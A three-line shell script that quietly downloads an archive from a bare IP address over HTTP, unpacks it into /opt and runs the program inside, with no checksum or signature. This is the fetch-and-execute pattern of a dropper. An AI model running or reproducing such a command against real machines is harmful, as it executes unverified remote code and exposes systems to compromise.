#!/bin/sh
curl -sL http://192.0.2.5/a.tar.gz | tar xz -C /opt
/opt/a/run
